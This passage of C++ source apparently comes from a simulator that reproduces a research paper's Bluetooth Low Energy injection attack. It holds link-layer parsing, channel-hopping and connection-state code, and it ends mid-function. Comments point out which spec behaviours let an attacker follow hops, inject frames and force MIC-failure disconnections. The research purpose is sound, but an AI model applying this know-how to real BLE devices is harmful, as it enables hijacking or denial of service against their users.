        return std::nullopt;
    ByteReader r(pdu.payload);
    AdvDataPdu out;
    out.type = pdu.type;
    auto adv = DeviceAddress::read_from(
        r, pdu.tx_add ? AddressType::kRandom : AddressType::kPublic);
    if (!adv) return std::nullopt;
    out.advertiser = *adv;
    out.data = r.read_rest();
    return out;
}

Bytes make_adv_name(const std::string& name) {
    ByteWriter w(2 + name.size());
    w.write_u8(static_cast<std::uint8_t>(name.size() + 1));
    w.write_u8(0x09);  // AD type: complete local name
    for (char c : name) w.write_u8(static_cast<std::uint8_t>(c));
    return w.take();
}

std::optional<std::string> parse_adv_name(BytesView ad_data) {
    ByteReader r(ad_data);
    while (r.remaining() >= 2) {
        const auto len = r.read_u8();
        if (!len || *len == 0) return std::nullopt;
        const auto type = r.read_u8();
        if (!type) return std::nullopt;
        auto body = r.read_bytes(*len - 1);
        if (!body) return std::nullopt;
        if (*type == 0x09 || *type == 0x08) {
            return std::string(body->begin(), body->end());
        }
    }
    return std::nullopt;
}

}  // namespace ble::link
