// Advertising-channel payloads, most importantly CONNECT_REQ (paper Table II)
// — the packet that carries every parameter the attacker needs.
#pragma once

#include <cstdint>
#include <optional>

#include "common/bytes.hpp"
#include "common/time.hpp"
#include "link/address.hpp"
#include "link/channel_map.hpp"
#include "link/pdu.hpp"

namespace ble::link {

/// Sleep-clock-accuracy field encoding (3 bits) -> worst-case ppm.
[[nodiscard]] double sca_field_to_ppm(std::uint8_t sca_field) noexcept;
/// Smallest SCA field whose range covers `ppm`.
[[nodiscard]] std::uint8_t ppm_to_sca_field(double ppm) noexcept;

/// Everything negotiated in CONNECT_REQ (Table II minus the two addresses).
/// This is the full state an attacker must know to join a connection.
struct ConnectionParams {
    std::uint32_t access_address = 0;
    std::uint32_t crc_init = 0;       // 24 bits
    std::uint8_t win_size = 1;        // * 1.25 ms
    std::uint16_t win_offset = 0;     // * 1.25 ms
    std::uint16_t hop_interval = 36;  // * 1.25 ms (the paper's "Hop Interval")
    std::uint16_t latency = 0;        // slave latency, in events
    std::uint16_t timeout = 100;      // supervision timeout, * 10 ms
    ChannelMap channel_map{};
    std::uint8_t hop_increment = 5;   // 5 bits, CSA#1 hop
    std::uint8_t master_sca = 5;      // 3-bit SCA field (5 => 31-50 ppm)
    /// Channel Selection Algorithm #2 in use. Not a CONNECT_REQ field: it is
    /// negotiated through the ChSel header bits of ADV_IND and CONNECT_REQ
    /// (both set => CSA#2), which any sniffer observes just as easily.
    bool use_csa2 = false;

    [[nodiscard]] Duration interval() const noexcept {
        return connection_interval(hop_interval);
    }
    [[nodiscard]] Duration supervision_timeout() const noexcept {
        return static_cast<Duration>(timeout) * kUnit10ms;
    }
    [[nodiscard]] double master_sca_ppm() const noexcept {
        return sca_field_to_ppm(master_sca);
    }
};

struct ConnectReqPdu {
    DeviceAddress initiator;
    DeviceAddress advertiser;
    ConnectionParams params;

    [[nodiscard]] AdvPdu to_adv_pdu() const;
    static std::optional<ConnectReqPdu> parse(const AdvPdu& pdu) noexcept;
};

/// ADV_IND / ADV_NONCONN_IND / SCAN_RSP: advertiser address + AD payload.
struct AdvDataPdu {
    AdvPduType type = AdvPduType::kAdvInd;
    DeviceAddress advertiser;
    Bytes data;  ///< AD structures (we treat them opaquely; name helper below)

    [[nodiscard]] AdvPdu to_adv_pdu() const;
    static std::optional<AdvDataPdu> parse(const AdvPdu& pdu) noexcept;
};

/// Builds the AD structure list for a complete local name (type 0x09).
[[nodiscard]] Bytes make_adv_name(const std::string& name);
/// Extracts a complete/shortened local name from AD structures, if present.
[[nodiscard]] std::optional<std::string> parse_adv_name(BytesView ad_data);

}  // namespace ble::link
