#include "link/channel_map.hpp"

#include <bit>

#include "link/spec.hpp"

namespace ble::link {

void ChannelMap::set_used(std::uint8_t channel, bool used) noexcept {
    if (channel >= kNumDataChannels) return;
    if (used) {
        bits_ |= 1ULL << channel;
    } else {
        bits_ &= ~(1ULL << channel);
    }
}

int ChannelMap::used_count() const noexcept { return std::popcount(bits_); }

std::vector<std::uint8_t> ChannelMap::used_channels() const {
    std::vector<std::uint8_t> out;
    out.reserve(static_cast<std::size_t>(used_count()));
    for (std::uint8_t ch = 0; ch < kNumDataChannels; ++ch) {
        if (is_used(ch)) out.push_back(ch);
    }
    return out;
}

void ChannelMap::write_to(ByteWriter& w) const {
    for (int i = 0; i < 5; ++i) {
        w.write_u8(static_cast<std::uint8_t>((bits_ >> (8 * i)) & 0xFF));
    }
}

ChannelMap ChannelMap::read_from(ByteReader& r) {
    std::uint64_t bits = 0;
    for (int i = 0; i < 5; ++i) {
        const auto byte = r.read_u8();
        if (!byte) return ChannelMap{0};
        bits |= static_cast<std::uint64_t>(*byte) << (8 * i);
    }
    return ChannelMap{bits};
}

}  // namespace ble::link
