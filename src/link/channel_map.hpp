// The 37-bit data-channel map (Table II, "Channel Map" field).
//
// A master marks noisy channels unused via CHANNEL_MAP_IND; the channel
// selection algorithms remap onto the used set.  At least two channels must
// stay used (spec minimum; we enforce >= 1 and warn below 2).
#pragma once

#include <cstdint>
#include <vector>

#include "common/bytes.hpp"
#include "link/spec.hpp"

namespace ble::link {

class ChannelMap {
public:
    /// All 37 data channels used.
    ChannelMap() noexcept : bits_(0x1FFFFFFFFFULL) {}
    explicit ChannelMap(std::uint64_t bits) noexcept : bits_(bits & 0x1FFFFFFFFFULL) {}

    [[nodiscard]] bool is_used(std::uint8_t channel) const noexcept {
        return channel < kNumDataChannels && ((bits_ >> channel) & 1) != 0;
    }
    void set_used(std::uint8_t channel, bool used) noexcept;

    [[nodiscard]] std::uint64_t bits() const noexcept { return bits_; }
    [[nodiscard]] int used_count() const noexcept;
    /// Used channels, ascending — the remapping table of both CSAs.
    [[nodiscard]] std::vector<std::uint8_t> used_channels() const;

    /// On-air representation: 5 bytes, channel 0 = LSB of first byte.
    void write_to(ByteWriter& w) const;
    static ChannelMap read_from(ByteReader& r);

    friend bool operator==(const ChannelMap& a, const ChannelMap& b) noexcept {
        return a.bits_ == b.bits_;
    }

private:
    std::uint64_t bits_;
};

}  // namespace ble::link
