#include "link/channel_selection.hpp"

#include "link/spec.hpp"
#include "obs/prof/profiler.hpp"

namespace ble::link {

std::uint8_t Csa1::channel_for_event(std::uint16_t /*event_counter*/) {
    static thread_local obs::prof::SpanSite prof_site{"link.csa1.hop"};
    obs::prof::Span prof_span(prof_site);
    last_unmapped_ = static_cast<std::uint8_t>((last_unmapped_ + hop_) % kNumDataChannels);
    if (map_.is_used(last_unmapped_)) return last_unmapped_;
    const auto used = map_.used_channels();
    if (used.empty()) return last_unmapped_;  // degenerate map; keep hopping
    const std::size_t remap = last_unmapped_ % used.size();
    return used[remap];
}

namespace {
/// PERM: reverse the bits inside each byte of the 16-bit value.
std::uint16_t perm(std::uint16_t v) noexcept {
    auto swap8 = [](std::uint8_t b) {
        b = static_cast<std::uint8_t>(((b & 0xF0) >> 4) | ((b & 0x0F) << 4));
        b = static_cast<std::uint8_t>(((b & 0xCC) >> 2) | ((b & 0x33) << 2));
        b = static_cast<std::uint8_t>(((b & 0xAA) >> 1) | ((b & 0x55) << 1));
        return b;
    };
    return static_cast<std::uint16_t>((swap8(static_cast<std::uint8_t>(v >> 8)) << 8) |
                                      swap8(static_cast<std::uint8_t>(v & 0xFF)));
}

/// MAM: multiply-add-modulo 2^16.
std::uint16_t mam(std::uint16_t a, std::uint16_t b) noexcept {
    return static_cast<std::uint16_t>((17u * a + b) & 0xFFFF);
}
}  // namespace

Csa2::Csa2(std::uint32_t access_address, ChannelMap map) noexcept
    : channel_identifier_(static_cast<std::uint16_t>(((access_address >> 16) & 0xFFFF) ^
                                                     (access_address & 0xFFFF))),
      map_(map) {}

std::uint16_t Csa2::prn_e(std::uint16_t event_counter) const noexcept {
    std::uint16_t x = static_cast<std::uint16_t>(event_counter ^ channel_identifier_);
    for (int round = 0; round < 3; ++round) {
        x = perm(x);
        x = mam(x, channel_identifier_);
    }
    return static_cast<std::uint16_t>(x ^ channel_identifier_);
}

std::uint8_t Csa2::channel_for_event(std::uint16_t event_counter) {
    static thread_local obs::prof::SpanSite prof_site{"link.csa2.hop"};
    obs::prof::Span prof_span(prof_site);
    const std::uint16_t prn = prn_e(event_counter);
    const auto unmapped = static_cast<std::uint8_t>(prn % kNumDataChannels);
    if (map_.is_used(unmapped)) return unmapped;
    const auto used = map_.used_channels();
    if (used.empty()) return unmapped;
    const auto remap_index =
        static_cast<std::size_t>((static_cast<std::uint32_t>(used.size()) * prn) >> 16);
    return used[remap_index];
}

}  // namespace ble::link
