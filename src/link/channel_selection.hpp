// Channel selection algorithms (paper §III-B.3).
//
// CSA#1: modular increment — trivially predictable, the algorithm the paper's
// experiments run on.  CSA#2 (BLE 5): a per-event PRN derived from the access
// address — also predictable once the AA is known, which is why the paper
// notes "the proposed approach can be easily adapted to the second
// algorithm".  Both are deterministic functions of sniffable parameters; that
// predictability is what lets the attacker follow the hops.
#pragma once

#include <cstdint>
#include <memory>

#include "link/channel_map.hpp"

namespace ble::link {

class ChannelSelector {
public:
    virtual ~ChannelSelector() = default;
    /// Channel for the connection event with the given counter. Must be called
    /// with monotonically increasing counters for CSA#1 (stateful); CSA#2 is
    /// pure. `set_channel_map` applies from the next call.
    virtual std::uint8_t channel_for_event(std::uint16_t event_counter) = 0;
    virtual void set_channel_map(const ChannelMap& map) = 0;
    [[nodiscard]] virtual std::unique_ptr<ChannelSelector> clone() const = 0;
};

/// Channel Selection Algorithm #1: unmapped = (last + hopIncrement) mod 37,
/// remapped through the used-channel table when unmapped is unused.
class Csa1 final : public ChannelSelector {
public:
    /// `initial_unmapped` seeds lastUnmappedChannel — 0 at connection setup;
    /// a sniffer that recovered an already-running connection passes the
    /// unmapped channel it synchronised on.
    Csa1(std::uint8_t hop_increment, ChannelMap map,
         std::uint8_t initial_unmapped = 0) noexcept
        : hop_(hop_increment), map_(map), last_unmapped_(initial_unmapped) {}

    std::uint8_t channel_for_event(std::uint16_t event_counter) override;
    void set_channel_map(const ChannelMap& map) override { map_ = map; }
    [[nodiscard]] std::unique_ptr<ChannelSelector> clone() const override {
        return std::make_unique<Csa1>(*this);
    }

    [[nodiscard]] std::uint8_t last_unmapped() const noexcept { return last_unmapped_; }

private:
    std::uint8_t hop_;
    ChannelMap map_;
    std::uint8_t last_unmapped_ = 0;
};

/// Channel Selection Algorithm #2 (BLE 5.0): PRN from the access address and
/// event counter (Vol 6, Part B, §4.5.8.3).
class Csa2 final : public ChannelSelector {
public:
    Csa2(std::uint32_t access_address, ChannelMap map) noexcept;

    std::uint8_t channel_for_event(std::uint16_t event_counter) override;
    void set_channel_map(const ChannelMap& map) override { map_ = map; }
    [[nodiscard]] std::unique_ptr<ChannelSelector> clone() const override {
        return std::make_unique<Csa2>(*this);
    }

    /// The spec's prn_e intermediate, exposed for tests against the published
    /// sample data.
    [[nodiscard]] std::uint16_t prn_e(std::uint16_t event_counter) const noexcept;

private:
    std::uint16_t channel_identifier_;
    ChannelMap map_;
};

}  // namespace ble::link
