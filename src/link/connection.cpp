#include "link/connection.hpp"

#include <cmath>

#include "common/log.hpp"
#include "obs/prof/profiler.hpp"
#include "phy/frame.hpp"
#include "phy/spec.hpp"

namespace ble::link {

namespace {
/// Guard added to receive timeouts so a frame that *starts* at the very edge
/// of a window is still waited for (the medium locks at frame start; the
/// `receiving()` re-check below extends until it ends).
constexpr Duration kRxGuard = 30_us;
/// Margin kept free at the end of a connection event when deciding whether
/// another MD exchange fits.
constexpr Duration kEventCloseMargin = 500_us;
/// Slave response timing jitter (active-clock accuracy, ±2 µs per spec).
constexpr Duration kActiveClockJitter = 2_us;
}  // namespace

const char* disconnect_reason_name(DisconnectReason reason) noexcept {
    switch (reason) {
        case DisconnectReason::kLocalTerminate: return "local terminate";
        case DisconnectReason::kRemoteTerminate: return "remote terminate";
        case DisconnectReason::kSupervisionTimeout: return "supervision timeout";
        case DisconnectReason::kMicFailure: return "MIC failure";
        case DisconnectReason::kFailedToEstablish: return "failed to establish";
    }
    return "?";
}

Duration window_widening(double master_sca_ppm, double slave_sca_ppm, Duration span) noexcept {
    const double drift =
        (master_sca_ppm + slave_sca_ppm) * 1e-6 * static_cast<double>(span);
    return static_cast<Duration>(std::llround(drift)) + kWindowWideningConstant;
}

Connection::Connection(sim::RadioDevice& radio, ConnectionConfig config, ConnectionHooks hooks)
    : radio_(radio), config_(std::move(config)), hooks_(std::move(hooks)) {
    if (!config_.selector) {
        if (config_.params.use_csa2) {
            config_.selector = std::make_unique<Csa2>(config_.params.access_address,
                                                      config_.params.channel_map);
        } else {
            config_.selector = std::make_unique<Csa1>(config_.params.hop_increment,
                                                      config_.params.channel_map);
        }
    }
    sn_ = config_.initial_sn;
    nesn_ = config_.initial_nesn;
    event_counter_ = config_.initial_event_counter;
}

Connection::~Connection() {
    if (timer_ != sim::kInvalidEvent) radio_.scheduler().cancel(timer_);
}

sim::EventId Connection::guarded_at(TimePoint t, std::function<void()> fn) {
    return radio_.scheduler().schedule_at(
        t, [alive = std::weak_ptr<char>(alive_), fn = std::move(fn)] {
            if (alive.lock()) fn();
        });
}

sim::EventId Connection::guarded_after(Duration d, std::function<void()> fn) {
    return guarded_at(radio_.scheduler().now() + d, std::move(fn));
}

Duration Connection::max_frame_air_time() const noexcept {
    const std::size_t mic = (encrypted_ && crypto_) ? crypto_->mic_size() : 0;
    // Whole frame on LE 1M: preamble + AA + header + payload + MIC + CRC.
    return static_cast<Duration>(phy::kPreambleBytesLe1M + phy::kAccessAddressBytes +
                                 phy::kPduHeaderBytes + config_.max_payload + mic +
                                 phy::kCrcBytes) *
           phy::kByteAirtimeLe1M;
}

Duration Connection::base_widening(int events_elapsed) const noexcept {
    const Duration span = static_cast<Duration>(events_elapsed) * config_.params.interval();
    const Duration w =
        window_widening(config_.params.master_sca_ppm(), config_.own_sca_ppm, span);
    return static_cast<Duration>(static_cast<double>(w) * config_.widening_scale);
}

bool Connection::instant_reached(std::uint16_t instant) const noexcept {
    return static_cast<std::uint16_t>(event_counter_ - instant) < 0x8000;
}

void Connection::emit_conn_event(obs::ConnEvent::Kind kind, std::string_view reason) {
    auto& bus = radio_.medium().bus();
    if (!bus.active()) return;
    obs::ConnEvent event;
    event.kind = kind;
    event.time = radio_.now();
    event.device = radio_.name();
    event.role = config_.role == Role::kMaster ? 0 : 1;
    event.event_counter = event_counter_;
    event.channel = channel_;
    if (kind == obs::ConnEvent::Kind::kEventClosed) {
        event.anchor_observed = report_.anchor_observed;
        event.pdus_rx = report_.pdus_rx;
        event.pdus_tx = report_.pdus_tx;
        event.crc_errors = report_.crc_errors;
    }
    event.reason = reason;
    bus.emit(event);
}

void Connection::start(TimePoint t_ref) {
    anchor_ = t_ref;  // sync reference until the first anchor is observed
    last_valid_rx_ = t_ref;
    const Duration offset = kTransmitWindowDelayUncoded +
                            static_cast<Duration>(config_.params.win_offset) * kUnit1250us;
    const Duration window_len =
        static_cast<Duration>(config_.params.win_size) * kUnit1250us;
    channel_ = config_.selector->channel_for_event(event_counter_);
    report_ = ConnectionEventReport{};
    report_.event_counter = event_counter_;
    report_.channel = channel_;
    emit_conn_event(obs::ConnEvent::Kind::kOpened);

    if (config_.role == Role::kMaster) {
        // The master owns the window: it transmits at the window start.
        const TimePoint tx_at = t_ref + radio_.sleep_clock().to_global(offset);
        timer_ = guarded_at(tx_at, [this] { master_event_begin(); });
    } else {
        predicted_anchor_ = t_ref + radio_.sleep_clock().to_global(offset);
        const Duration widening = static_cast<Duration>(
            static_cast<double>(window_widening(config_.params.master_sca_ppm(),
                                                config_.own_sca_ppm, offset)) *
            config_.widening_scale);
        slave_open_window(predicted_anchor_, window_len, widening);
    }
}

void Connection::resume(TimePoint next_anchor) {
    anchor_ = radio_.now();
    last_valid_rx_ = radio_.now();
    channel_ = config_.selector->channel_for_event(event_counter_);
    report_ = ConnectionEventReport{};
    report_.event_counter = event_counter_;
    report_.channel = channel_;
    emit_conn_event(obs::ConnEvent::Kind::kOpened);

    if (config_.role == Role::kMaster) {
        timer_ = guarded_at(next_anchor, [this] { master_event_begin(); });
    } else {
        predicted_anchor_ = next_anchor;
        const Duration widening = base_widening(1);
        slave_open_window(predicted_anchor_, 0, widening);
    }
}

// --- transmit path ---

DataPdu Connection::build_next_pdu() {
    DataPdu pdu;
    if (in_flight_) {
        pdu.llid = in_flight_->llid;  // retransmission keeps its SN
        pdu.payload = in_flight_->payload;
    } else if (!tx_queue_.empty()) {
        in_flight_ = std::move(tx_queue_.front());
        tx_queue_.pop_front();
        pdu.llid = in_flight_->llid;
        pdu.payload = in_flight_->payload;
    } else {
        pdu.llid = Llid::kDataContinuation;  // empty PDU
    }
    pdu.sn = sn_;
    pdu.nesn = nesn_;
    pdu.md = !tx_queue_.empty();
    return pdu;
}

bool Connection::is_start_enc_req(const DataPdu& pdu) noexcept {
    return pdu.llid == Llid::kControl && !pdu.payload.empty() &&
           pdu.payload[0] == static_cast<std::uint8_t>(ControlOpcode::kStartEncReq);
}

void Connection::transmit_pdu(const DataPdu& pdu) {
    last_tx_pdu_ = pdu;
    DataPdu wire = pdu;
    // LL_START_ENC_REQ is defined to travel in plaintext even after the
    // cipher is armed (it is the arming signal) — this also keeps its
    // retransmissions parseable by a peer that has not switched yet.
    if (encrypted_ && crypto_ && !wire.payload.empty() && !is_start_enc_req(wire)) {
        // AAD is the first header byte with SN/NESN/MD masked (Vol 6 Part E).
        const std::uint8_t aad = static_cast<std::uint8_t>(wire.llid) & 0b11;
        wire.payload = crypto_->encrypt(aad, wire.payload, config_.role == Role::kMaster);
    }
    const Bytes bytes = wire.serialize();
    radio_.transmit(channel_, phy::make_air_frame(config_.params.access_address, bytes,
                                                  config_.params.crc_init));
    ++report_.pdus_tx;

    // LL_START_ENC_REQ flips the cipher on for every subsequent PDU in both
    // directions (simplified three-way start; see crypto::LinkEncryption).
    if (crypto_ && !encrypted_ && is_start_enc_req(pdu)) {
        encrypted_ = true;
    }
}

void Connection::send_data(Llid llid, Bytes payload) {
    if (closed_) return;
    tx_queue_.push_back(PendingTx{llid, std::move(payload)});
}

void Connection::send_control(const ControlPdu& pdu) {
    send_data(Llid::kControl, pdu.serialize());
}

void Connection::terminate(std::uint8_t error_code) {
    if (closed_ || terminate_sent_) return;
    terminate_sent_ = true;
    pending_terminate_code_ = error_code;
    send_control(TerminateInd{error_code}.to_control());
}

bool Connection::start_connection_update(ConnectionUpdateInd update,
                                         std::uint16_t instant_delta) {
    if (closed_ || config_.role != Role::kMaster || pending_update_) return false;
    if (update.instant == 0) {
        update.instant = static_cast<std::uint16_t>(event_counter_ + instant_delta);
    }
    pending_update_ = update;
    send_control(update.to_control());
    return true;
}

bool Connection::start_channel_map_update(ChannelMap map, std::uint16_t instant_delta) {
    if (closed_ || config_.role != Role::kMaster || pending_map_) return false;
    ChannelMapInd ind;
    ind.map = map;
    ind.instant = static_cast<std::uint16_t>(event_counter_ + instant_delta);
    pending_map_ = ind;
    send_control(ind.to_control());
    return true;
}

// --- master side ---

void Connection::master_event_begin() {
    if (closed_) return;
    timer_ = sim::kInvalidEvent;
    state_ = State::kMasterTxAnchor;
    anchor_ = radio_.now();  // the anchor point *is* this transmission's start
    anchor_valid_ = true;
    report_.anchor = anchor_;
    report_.anchor_observed = true;
    transmit_pdu(build_next_pdu());
}

void Connection::master_continue_exchange() {
    if (closed_) return;
    state_ = State::kMasterTxAnchor;  // same tx-then-listen cycle, same anchor
    transmit_pdu(build_next_pdu());
}

// --- slave side ---

void Connection::slave_open_window(TimePoint window_start, Duration window_len,
                                   Duration widening) {
    state_ = State::kSlaveWaitAnchor;
    last_widening_ = widening;
    const TimePoint listen_from = window_start - widening;
    const TimePoint listen_until = window_start + window_len + widening;

    auto& bus = radio_.medium().bus();
    if (bus.active()) {
        obs::WindowWiden event;
        event.time = radio_.now();
        event.device = radio_.name();
        event.event_counter = event_counter_;
        event.channel = channel_;
        event.widening = widening;
        event.window = window_len;
        event.missed = false;
        bus.emit(event);
    }

    guarded_at(listen_from, [this] {
        if (state_ == State::kSlaveWaitAnchor && !closed_) radio_.listen(channel_);
    });

    // The anchor frame must *start* by listen_until; if the radio is locked on
    // a frame at that moment, wait for it to finish instead of aborting.
    timer_ = guarded_at(listen_until + kRxGuard, [this] {
        if (closed_ || state_ != State::kSlaveWaitAnchor) return;
        if (radio_.medium().active_transmissions() > 0 && radio_.receiving()) {
            timer_ = guarded_after(
                max_frame_air_time(), [this] { slave_window_timeout(); });
            return;
        }
        slave_window_timeout();
    });
}

void Connection::slave_window_timeout() {
    if (closed_ || state_ != State::kSlaveWaitAnchor) return;
    timer_ = sim::kInvalidEvent;
    radio_.stop_listening();
    ++events_since_anchor_;
    report_.anchor = predicted_anchor_;
    report_.anchor_observed = false;

    auto& bus = radio_.medium().bus();
    if (bus.active()) {
        obs::WindowWiden event;
        event.time = radio_.now();
        event.device = radio_.name();
        event.event_counter = event_counter_;
        event.channel = channel_;
        event.widening = last_widening_;
        event.missed = true;
        bus.emit(event);
    }
    check_supervision(radio_.now());
    if (!closed_) close_event();
}

// --- shared receive path ---

void Connection::handle_rx(const sim::RxFrame& frame) {
    if (closed_) return;
    const auto raw = phy::split_frame(frame.bytes);
    if (!raw || raw->access_address != config_.params.access_address) return;

    const bool crc_ok = raw->crc_ok(config_.params.crc_init);
    auto pdu = DataPdu::parse(raw->pdu);

    if (config_.role == Role::kSlave) {
        if (state_ != State::kSlaveWaitAnchor) return;
        // Any frame with our access address sets the anchor, CRC-valid or not
        // (Vol 6, Part B §4.5.6) — the property the injection exploits. Only
        // the *first* master frame of the event is the anchor: later MD
        // frames in the same event must not shift the timing base.
        if (timer_ != sim::kInvalidEvent) {
            radio_.scheduler().cancel(timer_);
            timer_ = sim::kInvalidEvent;
        }
        radio_.stop_listening();
        if (!report_.anchor_observed) {
            anchor_ = frame.start;
            anchor_valid_ = true;
            predicted_anchor_ = frame.start;
            events_since_anchor_ = 0;
            report_.anchor = anchor_;
            report_.anchor_observed = true;
        }

        if (pdu && crc_ok) {
            process_frame(*pdu, true, frame.start, frame.end);
        } else {
            ++report_.pdus_rx;
            ++report_.crc_errors;
            peer_md_ = false;
        }
        if (closed_) return;  // MIC failure terminates without responding

        // Respond T_IFS after the end of the received frame (±active-clock
        // jitter). The response acks (or NAKs, via an unchanged NESN) what we
        // just received — the observable the attacker's Eq. 7 heuristic reads.
        state_ = State::kSlaveTxRsp;
        last_rx_end_ = frame.end;
        const Duration jitter = static_cast<Duration>(
            radio_.rng().uniform(-static_cast<double>(kActiveClockJitter),
                                 static_cast<double>(kActiveClockJitter)));
        guarded_at(frame.end + kTifs + jitter, [this] {
            if (closed_ || state_ != State::kSlaveTxRsp) return;
            transmit_pdu(build_next_pdu());
        });
        return;
    }

    // Master waiting for the slave's response.
    if (state_ != State::kMasterWaitRsp) return;
    if (timer_ != sim::kInvalidEvent) {
        radio_.scheduler().cancel(timer_);
        timer_ = sim::kInvalidEvent;
    }
    radio_.stop_listening();
    if (pdu && crc_ok) {
        process_frame(*pdu, true, frame.start, frame.end);
    } else {
        ++report_.pdus_rx;
        ++report_.crc_errors;
        peer_md_ = false;
    }
    if (closed_) return;

    // Continue the event with another exchange only if someone *announced*
    // more data via the MD bit: the slave in its response, or we ourselves in
    // the frame we just sent (data queued after that frame left the antenna
    // must wait for the next event — the slave has already stopped
    // listening).
    const bool more = peer_md_ || last_tx_pdu_.md;
    const TimePoint budget_end = anchor_ + config_.params.interval() - kEventCloseMargin;
    const TimePoint exchange_end =
        frame.end + kTifs + max_frame_air_time() + kTifs + max_frame_air_time();
    if (more && exchange_end < budget_end) {
        guarded_at(frame.end + kTifs, [this] {
            if (!closed_ && state_ == State::kMasterTxAnchor) master_continue_exchange();
        });
        state_ = State::kMasterTxAnchor;
        return;
    }
    close_event();
}

void Connection::process_frame(const DataPdu& pdu, bool crc_ok, TimePoint /*rx_start*/,
                               TimePoint rx_end) {
    static thread_local obs::prof::SpanSite prof_site{"link.conn.process_frame"};
    obs::prof::Span prof_span(prof_site);
    ++report_.pdus_rx;
    if (!crc_ok) {
        ++report_.crc_errors;
        peer_md_ = false;
        return;
    }
    peer_md_ = pdu.md;

    DataPdu effective = pdu;
    if (encrypted_ && crypto_ && !effective.payload.empty() && !is_start_enc_req(effective)) {
        const std::uint8_t aad = static_cast<std::uint8_t>(effective.llid) & 0b11;
        auto plain =
            crypto_->decrypt(aad, effective.payload, config_.role == Role::kSlave);
        if (!plain) {
            // MIC failure: terminate immediately (spec) — the paper's DoS
            // outcome when injecting into an encrypted connection.
            disconnect(DisconnectReason::kMicFailure);
            return;
        }
        effective.payload = std::move(*plain);
    }

    // Acknowledgement: the peer's NESN differing from our SN acks our last PDU.
    if (pdu.nesn != sn_) {
        sn_ = !sn_;
        const bool was_terminate =
            in_flight_ && in_flight_->llid == Llid::kControl && terminate_sent_ &&
            !in_flight_->payload.empty() &&
            in_flight_->payload[0] == static_cast<std::uint8_t>(ControlOpcode::kTerminateInd);
        in_flight_.reset();
        if (was_terminate) {
            disconnect(DisconnectReason::kLocalTerminate);
            return;
        }
    }

    // New data: the peer's SN matching our NESN means this is not a replay.
    if (pdu.sn == nesn_) {
        nesn_ = !nesn_;
        last_valid_rx_ = rx_end;
        if (effective.llid == Llid::kControl) {
            if (auto control = ControlPdu::parse(effective.payload)) {
                handle_control(*control);
                if (hooks_.on_control) hooks_.on_control(*control);
            }
        } else if (!effective.is_empty()) {
            if (hooks_.on_data) hooks_.on_data(effective);
        }
    }
}

void Connection::handle_control(const ControlPdu& pdu) {
    switch (pdu.opcode) {
        case ControlOpcode::kTerminateInd:
            // Both roles acknowledge before leaving: the slave with its
            // in-event response, the master with its next anchor frame (whose
            // NESN carries the ack) — then the connection is closed.
            terminate_after_tx_ = true;
            break;
        case ControlOpcode::kConnectionUpdateInd:
            if (config_.role == Role::kSlave) {
                if (auto update = ConnectionUpdateInd::parse(pdu);
                    update && !instant_reached(update->instant)) {
                    pending_update_ = *update;
                }
            }
            break;
        case ControlOpcode::kChannelMapInd:
            if (config_.role == Role::kSlave) {
                if (auto ind = ChannelMapInd::parse(pdu);
                    ind && !instant_reached(ind->instant)) {
                    pending_map_ = *ind;
                }
            }
            break;
        case ControlOpcode::kFeatureReq:
        case ControlOpcode::kSlaveFeatureReq:
            send_control(FeatureSet{0x01}.to_control(ControlOpcode::kFeatureRsp));
            break;
        case ControlOpcode::kVersionInd:
            if (!version_sent_) {
                version_sent_ = true;
                send_control(VersionInd{}.to_control());
            }
            break;
        case ControlOpcode::kPingReq:
            send_control(ControlPdu{ControlOpcode::kPingRsp, {}});
            break;
        case ControlOpcode::kClockAccuracyReq:
            send_control(
                ClockAccuracy{ppm_to_sca_field(config_.own_sca_ppm)}.to_control(
                    ControlOpcode::kClockAccuracyRsp));
            break;
        case ControlOpcode::kEncReq:
        case ControlOpcode::kEncRsp:
            // Key material exchange is orchestrated by the host layer via
            // hooks_.on_control (it owns the LTK).
            break;
        case ControlOpcode::kStartEncReq:
            // Received in plaintext; everything after it is encrypted. The
            // host must have attached the session via set_crypto() when it
            // handled LL_ENC_REQ.
            if (crypto_) {
                encrypted_ = true;
                send_control(ControlPdu{ControlOpcode::kStartEncRsp, {}});
            }
            break;
        case ControlOpcode::kStartEncRsp:
            if (config_.role == Role::kMaster && !start_enc_rsp_sent_) {
                start_enc_rsp_sent_ = true;
                send_control(ControlPdu{ControlOpcode::kStartEncRsp, {}});
            }
            break;
        case ControlOpcode::kLengthReq: {
            ByteWriter w(8);
            w.write_u16(27);
            w.write_u16(27 * 8 + 14);
            w.write_u16(27);
            w.write_u16(27 * 8 + 14);
            send_control(ControlPdu{ControlOpcode::kLengthRsp, w.take()});
            break;
        }
        case ControlOpcode::kUnknownRsp:
        case ControlOpcode::kFeatureRsp:
        case ControlOpcode::kPingRsp:
        case ControlOpcode::kClockAccuracyRsp:
        case ControlOpcode::kLengthRsp:
        case ControlOpcode::kConnectionParamRsp:
        case ControlOpcode::kPhyRsp:
        case ControlOpcode::kRejectInd:
        case ControlOpcode::kRejectExtInd:
            break;  // responses need no reply
        default:
            // Unknown / unhandled opcode: answer LL_UNKNOWN_RSP like real
            // stacks (keeps fuzz-style traffic from wedging the connection).
            if (pdu.opcode != ControlOpcode::kUnknownRsp) {
                send_control(
                    UnknownRsp{static_cast<std::uint8_t>(pdu.opcode)}.to_control());
            }
            break;
    }
}

// --- event close & scheduling ---

void Connection::handle_tx_complete() {
    if (closed_) return;
    if (config_.role == Role::kMaster) {
        if (state_ != State::kMasterTxAnchor) return;
        if (terminate_after_tx_) {
            // This anchor frame carried the ack of the peer's TERMINATE_IND.
            disconnect(DisconnectReason::kRemoteTerminate);
            return;
        }
        state_ = State::kMasterWaitRsp;
        radio_.listen(channel_);
        timer_ = guarded_after(
            kTifs + max_frame_air_time() + kRxGuard, [this] {
                if (closed_ || state_ != State::kMasterWaitRsp) return;
                if (radio_.receiving()) {
                    // Response started near the deadline: let it finish.
                    timer_ = guarded_after(
                        max_frame_air_time(), [this] {
                            if (!closed_ && state_ == State::kMasterWaitRsp) {
                                radio_.stop_listening();
                                check_supervision(radio_.now());
                                if (!closed_) close_event();
                            }
                        });
                    return;
                }
                radio_.stop_listening();
                check_supervision(radio_.now());
                if (!closed_) close_event();
            });
        return;
    }

    // Slave response completed.
    if (state_ != State::kSlaveTxRsp) return;
    if (terminate_after_tx_) {
        disconnect(DisconnectReason::kRemoteTerminate);
        return;
    }
    if (peer_md_) {
        // The master signalled more data: stay in the event and listen for
        // its next frame, expected T_IFS after our response.
        state_ = State::kSlaveWaitAnchor;  // reuse the wait-with-timeout path
        radio_.listen(channel_);
        timer_ = guarded_after(
            kTifs + max_frame_air_time() + kRxGuard, [this] {
